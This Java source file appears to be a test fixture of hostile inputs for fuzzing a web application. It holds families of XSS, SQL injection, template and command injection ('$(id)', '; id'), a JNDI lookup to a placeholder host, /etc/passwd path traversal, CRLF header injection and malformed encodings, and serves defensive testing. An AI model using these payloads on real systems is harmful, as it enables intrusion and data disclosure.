package samsvar.web.http;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** What somebody sends who means harm or has a broken program, by families. */
final class HostileStrings {
    /** What {@link #TEMPLATES} come to where anything works them out. */
    static final String WORKED_OUT = "892001";

    /** The name of a header that {@link #headers()} try to add. */
    static final String HEADER = "X-Zq";

    private static final List<String> MARKUP = List.of(
            "<script>zq(1)</script>",
            "<img src=zq onerror=zq(1)>",
            "<svg/onload=zq(1)>",
            "</title><script>zq(1)</script>",
            "</textarea><b zq>",
            "]]><zq/>",
            "<!--<zq>-->",
            "<!ENTITY zq SYSTEM \"file:///etc/passwd\">",
            "<a href=\"javascript:zq(1)\">x</a>",
            "<iframe srcdoc=\"<b>zq\">",
            "<details open ontoggle=zq(1)>",
            "<math><mtext><zq>",
            "&lt;script&gt;<zq>",
            "<style>*{zq:1}</style>",
            "<base href=//zq.example>",
            "<meta http-equiv=refresh content=0;zq>",
            "\" onfocus=\"zq(1)\" autofocus=\"",
            "' onfocus='zq(1)' x=\"",
            "\"><zq>",
            "'-zq(1)-'\"",
            "</script><zq>");

    private static final List<String> SQL = List.of(
            "' OR '1'='1",
            "'; DROP TABLE page; --",
            "1 UNION SELECT body FROM page",
            "\" OR 1=1 --",
            "') OR ('a'='a",
            "1; PRAGMA integrity_check",
            "admin'/*",
            "%' AND 1=(SELECT 1) --",
            "x' AND randomblob(1000000000) --",
            "0x27 OR 1");

    private static final List<String> LUCENE = List.of(
            "*",
            "?",
            "*:*",
            "title:*",
            "a*b?c~2^9",
            "[* TO *]",
            "{a TO z}",
            "((((((((((",
            "))))))))))",
            "\"unclosed",
            "AND",
            "OR OR OR",
            "NOT",
            "+ - && || !",
            "\\",
            "/.*/",
            "/(a+)+$/",
            "a~99999999",
            "x^1e309",
            "_exists_:y",
            "{!func}sum(1,1)",
            "field\\:x");

    private static final List<String> TEMPLATES = List.of(
            "${913*977}",
            "#{913*977}",
            "{{913*977}}",
            "<%= 913*977 %>",
            "@{913*977}",
            "!{913*977}",
            "$unsafe{913*977}",
            "${jndi:ldap://zq.example/a}",
            "${env:PATH}",
            "{0}",
            "{q, plural, other {#}}",
            "{{constructor.constructor('zq')()}}",
            "%s%n%d%x",
            "$(id)",
            "`id`",
            "|id",
            "; id");

    private static final List<String> PATHS = List.of(
            "../../../../etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "....//....//etc/passwd",
            "/etc/passwd",
            "file:///etc/passwd",
            "..%2f..%2fetc%2fpasswd",
            "..;/..;/admin",
            "./././.",
            "~root",
            "CON",
            "a\0.html",
            "http://zq.example/",
            "//zq.example/",
            "\\\\zq.example\\x");

    private static final List<String> NUMBERS = List.of(
            "-1",
            "0",
            "99999999999999999999",
            "-2147483648",
            "2147483648",
            "NaN",
            "Infinity",
            "1e309",
            "0x10",
            "٣",
            "1,5",
            "+1",
            " 1",
            "true",
            "null",
            "undefined",
            "[]",
            "{}",
            "nil");

    private HostileStrings() {}

    /** Texts: they are sent well encoded. More than 500, each once. */
    static List<String> texts() {
        List<String> all = new ArrayList<>();
        List<List<String>> families = List.of(MARKUP, SQL, LUCENE, TEMPLATES, PATHS, NUMBERS, headers(), invisible());
        families.forEach(all::addAll);
        // Each again in the middle of a question, in capitals, and behind a text that is cut or folded.
        families.forEach(family -> family.forEach(text -> {
            all.add("hur får jag " + text + " i Malmö");
            all.add(text.toUpperCase(Locale.ROOT));
            all.add("\u202e" + text + "\u200b\u0000");
        }));
        all.addAll(tooLong());
        return all.stream().distinct().toList();
    }

    private static List<String> headers() {
        return Stream.of("\r\n", "\n", "\r", "\u010d\u010a", "\u2028", "\u0085", "%0d%0a", "\r\n\r\n")
                .flatMap(end ->
                        Stream.of("x" + end + HEADER + ": 1", end + "Set-Cookie: zq=1", "uk" + end + "Location: //zq"))
                .toList();
    }

    private static List<String> invisible() {
        return List.of(
                "\u202eabc\u202c",
                "\u2066a\u2069",
                "\u200b\u200c\u200d\u2060\ufeff",
                "a\u200bb",
                "\u00ad\u00ad",
                "i\u0307",
                "\u0300\u0301".repeat(60),
                "Z̷̧͍a̶l̴g̸o̵",
                "\ufff0\uffff",
                "\ud83d\udc69\u200d\ud83d\udc67",
                "\u0000\u0001\u001f\u007f",
                "\udb40\udc41\udb40\udc42",
                "ﷺ",
                "ｓｃｒｉｐｔ＜＞",
                "\u2800",
                "\u3164",
                "\t\t\n",
                "\u1d2c\u212a\u017f",
                "İıŞ");
    }

    private static List<String> tooLong() {
        return List.of(
                "a".repeat(300),
                "a".repeat(301),
                "a".repeat(10_000),
                "ї".repeat(5_000),
                "a ".repeat(5_000),
                "(".repeat(10_000),
                "\"".repeat(9_999),
                "<".repeat(10_000),
                "\u0301".repeat(3_000),
                "x-".repeat(5_000),
                "ßﬃ".repeat(2_000),
                ".".repeat(10_000));
    }

    /** What is no percent-encoded UTF-8: it is sent as it stands and must be refused. */
    static List<String> malformed() {
        return List.of(
                "%",
                "%zz",
                "%1",
                "a%",
                "%%",
                "%u0041",
                "%c3",
                "%c3%28",
                "%ed%a0%80",
                "%ff",
                "%fe%ff",
                "%c0%af",
                "%e0%80%af",
                "%f8%88%80%80%80",
                "%f4%90%80%80",
                "%80",
                "%bf",
                "abc%e2%82",
                "%-1",
                "% 41".replace(' ', '+'),
                "%g0",
                "%0",
                "%\u0661\u0661".replaceAll("[^%]", "x"),
                "%f0%9f%91");
    }

    /** The text percent-encoded, lone surrogates and all. */
    static String encoded(String text) {
        StringBuilder encoded = new StringBuilder();
        byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
        IntStream.range(0, bytes.length).forEach(i -> encoded.append("%%%02X".formatted(bytes[i])));
        return encoded.toString();
    }
}
